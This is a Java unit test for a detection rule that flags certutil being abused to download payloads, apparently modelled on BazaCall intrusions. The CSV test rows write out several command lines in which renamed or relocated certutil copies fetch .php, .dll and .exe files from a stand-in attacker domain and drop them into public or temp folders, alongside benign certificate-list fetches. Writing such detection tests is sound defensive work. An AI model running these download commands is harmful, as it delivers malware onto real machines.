package dev.bazahunt.rules;

import static org.assertj.core.api.Assertions.assertThat;

import dev.bazahunt.telemetry.DeviceFileEvent;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * The hardened rule row by row: who wrote the file (name, folder, PE original name), what the command line
 * asks for, and where the file landed. The evasion corpus is in {@link HardenedCertutilEvasionCorpusTest}.
 */
class HardenedCertutilRuleTest {

    private static final String PAYLOAD = "C:\\Users\\Public\\x8k2\\tmp1834.dll";
    private static final String CRL_CACHE =
            "C:\\Users\\j.doe\\AppData\\LocalLow\\Microsoft\\CryptnetUrlCache\\Content\\77EC63BDA74BD0D0E0426DC8F8008506";
    private static final String SYSTEM_CRL_CACHE = "C:\\Windows\\System32\\config\\systemprofile\\AppData\\LocalLow"
            + "\\Microsoft\\CryptnetUrlCache\\Content\\77EC63BDA74BD0D0E0426DC8F8008506";

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', nullValues = "NULL", textBlock = """
            BazaCall renamed copy, no version info       | x8k2.exe     | C:\\Users\\Public\\x8k2\\x8k2.exe      | NULL         | x8k2.exe  -urlcache -split -f http://pshe0pxe339.xyz/xe1t23ym0s.php C:\\Users\\Public\\x8k2\\tmp1834.dll | PAYLOAD | true
            renamed copy over https without -split       | x8k2.exe     | C:\\Users\\Public\\x8k2\\x8k2.exe      | CertUtil.exe | x8k2.exe -urlcache -f https://pshe0pxe339.xyz/xe1t23ym0s.php C:\\Users\\Public\\x8k2\\tmp1834.dll | PAYLOAD | true
            copy renamed to cmd.exe                       | cmd.exe      | C:\\Users\\Public\\x8k2\\cmd.exe       | CertUtil.exe | cmd.exe -verifyctl -f https://pshe0pxe339.xyz/xe1t23ym0s.php C:\\Users\\Public\\x8k2\\tmp1834.dll | PAYLOAD | true
            relocated certutil.exe with -url             | certutil.exe | C:\\Users\\Public\\x8k2\\certutil.exe  | CertUtil.exe | certutil.exe -URL https://pshe0pxe339.xyz/xe1t23ym0s.php | PAYLOAD | true
            relocated copy, the cache row                | certutil.exe | C:\\ProgramData\\certutil.exe          | CertUtil.exe | certutil.exe -urlcache -f https://pshe0pxe339.xyz/xe1t23ym0s.php | CRL_CACHE | true
            System32 certutil dropping into Public        | certutil.exe | C:\\Windows\\System32\\certutil.exe   | CertUtil.exe | certutil.exe -urlcache -f https://pshe0pxe339.xyz/xe1t23ym0s.php C:\\Users\\Public\\tmp1834.dll | PAYLOAD | true
            SysWOW64 certutil dropping into Windows Temp  | certutil.exe | C:\\Windows\\SysWOW64                | CertUtil.exe | certutil.exe /verifyctl /f https://pshe0pxe339.xyz/a.exe C:\\Windows\\Temp\\a.exe | C:\\Windows\\Temp\\a.exe | true
            certutil.exe name on another binary in System32 | certutil.exe | C:\\Windows\\System32\\certutil.exe | PsExec.exe   | certutil.exe -urlcache -f https://pshe0pxe339.xyz/a.exe C:\\Windows\\a.exe | C:\\Windows\\a.exe | true
            System32 certutil fetching a CRL              | certutil.exe | C:\\Windows\\System32\\certutil.exe   | CertUtil.exe | certutil -urlcache -f http://crl.microsoft.com/pki/crl/products/MicRooCerAut2011_2011_03_22.crl | CRL_CACHE | false
            System32 certutil fetching a CRL as SYSTEM     | certutil.exe | c:\\windows\\system32                | CertUtil.exe | certutil.exe -verify -urlfetch http://crl.microsoft.com/pki/crl/products/MicRooCerAut2011_2011_03_22.crl | SYSTEM_CRL_CACHE | false
            System32 certutil, folder path missing          | certutil.exe | NULL                                 | NULL         | certutil -urlcache -f http://ocsp.digicert.com/MFEwTzBNMEswSTAJBgUrDgMCGgUABBQ | CRL_CACHE | false
            System32 certutil writing into Program Files    | certutil.exe | C:\\Windows\\System32\\certutil.exe  | CertUtil.exe | certutil.exe -urlcache -f https://pki.contoso.com/ContosoRoot.crt C:\\Program Files\\Contoso\\root.crt | C:\\Program Files\\Contoso\\root.crt | false
            certutil in System32\\Tasks is not System32     | certutil.exe | C:\\Windows\\System32\\Tasks\\certutil.exe | CertUtil.exe | certutil.exe -urlcache -f https://pshe0pxe339.xyz/a.exe | CRL_CACHE | true
            real cmd.exe launching the copy                 | cmd.exe      | C:\\Windows\\System32\\cmd.exe       | Cmd.Exe      | cmd.exe /c C:\\Users\\Public\\x8k2\\x8k2.exe -urlcache -f https://pshe0pxe339.xyz/a.php out.dll | PAYLOAD | false
            renamed copy decoding, no download              | x8k2.exe     | C:\\Users\\Public\\x8k2\\x8k2.exe    | CertUtil.exe | x8k2.exe -decode C:\\Users\\Public\\x8k2\\a.txt C:\\Users\\Public\\x8k2\\tmp1834.dll | PAYLOAD | false
            Chrome app URL is not the -url verb             | chrome.exe   | C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe | chrome.exe | chrome.exe --app-url=https://outlook.office.com/mail/ --profile-directory=Default | C:\\Users\\j.doe\\Downloads\\report.pdf | false
            gpg --verify is not the -verify verb            | gpg.exe      | C:\\Program Files (x86)\\GnuPG\\bin\\gpg.exe | gpg.exe | gpg.exe --verify https://files.example.org/tool.zip.sig | C:\\Users\\j.doe\\AppData\\Roaming\\gnupg\\trustdb.gpg | false
            verb without a URL                               | x8k2.exe     | C:\\Users\\Public\\x8k2\\x8k2.exe    | CertUtil.exe | x8k2.exe -urlcache * delete | PAYLOAD | false
            """)
    void decidesByWriterCommandAndDestination(String scenario, String fileName, String folder, String originalName,
            String commandLine, String writtenPath, boolean expected) {
        DeviceFileEvent event = BazaCallFileEvents.payloadWrite(1, fileName, commandLine);
        event.initiatingProcessFolderPath = folder;
        event.initiatingProcessVersionInfoOriginalFileName = originalName;
        event.folderPath = switch (writtenPath) {
            case "PAYLOAD" -> PAYLOAD;
            case "CRL_CACHE" -> CRL_CACHE;
            case "SYSTEM_CRL_CACHE" -> SYSTEM_CRL_CACHE;
            default -> writtenPath;
        };

        assertThat(HardenedCertutilRule.matches(event)).as(scenario).isEqualTo(expected);
    }
}
